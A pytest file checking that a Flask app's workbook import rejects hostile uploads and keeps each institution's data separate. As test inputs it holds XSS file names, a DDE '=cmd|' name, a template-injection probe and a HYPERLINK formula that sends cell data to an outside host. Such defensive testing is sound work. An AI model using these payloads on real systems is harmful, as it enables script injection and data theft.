"""What somebody could try on the screen of the import: hostile files and names, tabs, codes of other institutions."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from html import escape
from pathlib import Path

import pytest
from flask import Flask
from flask.testing import FlaskClient
from openpyxl import load_workbook

from models.files.kept_workbook import sweep_workbooks
from models.tables.base import db
from tests.commands.conftest import Shell, shell  # noqa: F401 -- a fixture
from tests.conftest import Ministry, rows
from tests.factories import make_unit
from tests.files.bad_files import BAD_FILES
from tests.views.test_import_workbook import GRID, SignIn, content, draft, finished, plans, press, shelved, upload

HOSTILE = {
    "a file without a byte": "Elija el libro",
    "a zip bomb by size": "demasiado al abrirse",
    "a zip bomb by ratio": "comprimido de forma sospechosa",
    "more members than announced": "partes",
    "a macro": "macros",
    "a macro by its type": "macros",
    "a link to a workbook": "toma datos de otros archivos",
    "a workbook with a password": "contraseña",
    "a zip inside": "lleva dentro otro archivo",
    "a billion laughs": "definiciones XML",
    "a dimension that lies": "más de 20000 filas",
    "one cell far away": "más de 20000 filas",
    "half a workbook": "dañado",
    "csv files and another": "no es un archivo .csv",
}


@pytest.fixture
def analyst(ministry: Ministry, sign_in: SignIn) -> FlaskClient:
    """Planning, signed in."""
    return sign_in("analista")


@pytest.mark.parametrize("kind", HOSTILE)
def test_it_refuses_a_hostile_file_in_one_sentence_and_keeps_nothing(
    app: Flask, analyst: FlaskClient, tmp_path: Path, kind: str
) -> None:
    before = shelved(app)
    BAD_FILES[kind][1](tmp_path / "poa.xlsx")
    answer = upload(analyst, (tmp_path / "poa.xlsx").read_bytes())
    assert (answer.status_code, HOSTILE[kind] in answer.text) == (422, True)
    assert shelved(app) <= before


@pytest.mark.parametrize("name", ["poa.pdf", "poa.xlsm", "poa", "POA.XLS", "poa.exe"])
def test_it_reads_a_workbook_by_what_it_is_and_not_by_its_name(analyst: FlaskClient, name: str) -> None:
    assert upload(analyst, content(GRID), name).status_code == 302


NAMES = ("<script>alert(1)</script>.xlsx", "<img src=x onerror=alert(1)>.xlsx", "=cmd|' !A1.xlsx", "{{7*7}}.xlsx")


@pytest.mark.parametrize("name", NAMES)
def test_it_shows_the_name_of_a_file_as_text(analyst: FlaskClient, name: str) -> None:
    page = analyst.get(upload(analyst, content(GRID), name).headers["Location"]).text
    shown = name.rsplit("/", maxsplit=1)[-1]
    assert str(escape(shown)).replace("&quot;", "&#34;").replace("&#x27;", "&#39;") in page
    assert "<img src=x" not in page
    assert "<script>alert" not in page


FORMULA = '=HYPERLINK("http://rumbo.example/?"&A1,"vea")'


def test_it_takes_a_formula_in_a_name_for_text_from_the_page_to_the_workbook_that_goes_out(
    analyst: FlaskClient,
    shell: Shell,  # noqa: F811 -- the fixture
) -> None:
    grid = [[*row[:2], FORMULA if row[1] == "A1" else row[2], *row[3:]] for row in GRID]
    key, mapping, page = draft(analyst, grid)
    assert f'<td data-label="Nombre">{escape(FORMULA).replace("&quot;", "&#34;")}</td>' in page
    assert press(analyst, "guardar", key, finished(mapping)).status_code == 302
    out = shell.folder / "out.xlsx"
    assert shell.run("export-plan", "POA-2027", "--institution", "hacienda_sv", "--out", str(out)).exit_code == 0
    cells = [cell for line in load_workbook(out)["items"].iter_rows() for cell in line if cell.value == FORMULA]
    assert {cell.data_type for cell in cells} == {"s"}


def test_it_takes_no_unit_of_another_institution(analyst: FlaskClient) -> None:
    make_unit("SOLO-PASTO", of="pasto_co", kind="secretaria")
    db.session.commit()
    grid = [GRID[0], *([*row[:4], "SOLO-PASTO", *row[5:]] for row in GRID[1:])]
    key, mapping, _page = draft(analyst, grid)
    answer = press(analyst, "guardar", key, finished(mapping))
    assert (answer.status_code, "SOLO-PASTO" in answer.text) == (422, True)
    assert plans() == []
    assert rows("SELECT count(*)::int FROM org_unit WHERE code = 'SOLO-PASTO'") == [(1,)]


def test_it_touches_no_plan_of_another_institution_with_the_same_code(analyst: FlaskClient, ministry: Ministry) -> None:
    make_unit("DGA", of="pasto_co", kind="secretaria")
    db.session.commit()
    key, mapping, _page = draft(analyst)
    press(analyst, "guardar", key, finished(mapping))
    owners = "SELECT DISTINCT institution_id FROM plan UNION SELECT institution_id FROM plan_item"
    assert rows(owners) == [(ministry.top.institution_id,)]


def test_of_two_tabs_the_second_is_told_that_the_workbook_is_gone(analyst: FlaskClient) -> None:
    key, mapping, _page = draft(analyst)
    assert press(analyst, "guardar", key, finished(mapping)).status_code == 302
    for what in ("guardar", "revisar"):
        answer = press(analyst, what, key, finished(mapping))
        assert (answer.status_code, "El libro ya no está" in answer.text) == (422, True)
    assert rows("SELECT count(*)::int FROM import_run") == [(1,)]


def test_each_of_two_tabs_stores_by_its_own_mapping(analyst: FlaskClient) -> None:
    first, mapping, _page = draft(analyst)
    second, _mapping, _page = draft(analyst)
    press(analyst, "revisar", first, mapping.replace('name = "C"', 'name = "D"'))
    assert press(analyst, "guardar", second, finished(mapping)).status_code == 302
    assert rows("SELECT count(*)::int FROM plan_item WHERE name LIKE 'Realizar talleres%'")[0][0] > 0


def test_a_workbook_of_yesterday_is_gone(app: Flask, analyst: FlaskClient) -> None:
    key, mapping, _page = draft(analyst)
    sweep_workbooks(Path(app.config["RUMBO_FILES_URL"]), datetime.now(UTC) + timedelta(hours=25))
    assert "El libro ya no está" in analyst.get(f"/importar/?libro={key}").text
    assert press(analyst, "guardar", key, finished(mapping)).status_code == 422
    assert plans() == []
